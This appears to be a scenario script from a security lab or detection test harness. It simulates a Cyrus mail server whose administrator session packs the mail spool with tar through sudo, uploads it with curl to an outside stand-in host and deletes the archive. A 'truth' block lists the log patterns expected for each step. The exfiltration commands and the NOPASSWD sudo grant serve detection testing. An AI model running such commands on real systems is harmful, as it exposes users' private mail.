# The mail of everybody lies in one place, under the account of the IMAP server.
title="The partition of a Cyrus server is packed and uploaded"
what="Mail is delivered by LMTP into Cyrus and read by IMAP clients, as every day. Then somebody with the administrator's session packs two users' mailboxes below /var/spool/cyrus with tar through sudo into /var/tmp and uploads the archive with curl to a host outside."
host=mx1.example.org user=ops daemons="cron sshd" expect=medium
postfix_extra="mailbox_transport = lmtp:inet:127.0.0.1:2003"
audit_extra="-a always,exit -F arch=b64 -S open,openat,openat2,creat -F success=1 -F dir=/var/spool/cyrus -F key=mailstore"

. "$lab/lib/cyrus.sh"
setup() { cyrus || return 1; echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops; }
act() {
  cyrus_up
  small_talk 6
  for n in 1 2 3; do mail_in --from "office$n@example.net" --to clerk@example.org --to buyer@example.org --subject "Circular $n"; done
  wait_log_count 'to=<buyer@example.org>.*status=sent' 3 30
  imap_read clerk 198.51.100.50
  ssh_as ops <<'L'
cd /tmp
sudo tar czf /var/tmp/spool-check.tgz -C /var/spool/cyrus mail
sudo chown ops /var/tmp/spool-check.tgz
curl -s -T /var/tmp/spool-check.tgz http://files.example.net/in/
rm /var/tmp/spool-check.tgz
%sleep 1
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*relay=127.0.0.1\[127.0.0.1\]:2003.*status=sent' 'mail is handed over by LMTP'
  exec_step pack 'tar czf /var/tmp/spool-check.tgz' 'the partition is packed'
  file_step read 'tar open(at)?:read NORMAL .*[0-9]+\.$' 'every message with it'
  exec_step upload 'curl -s -T /var/tmp/spool-check.tgz' 'the archive is uploaded'
  net_step out 'curl ' 'to a host outside'
}
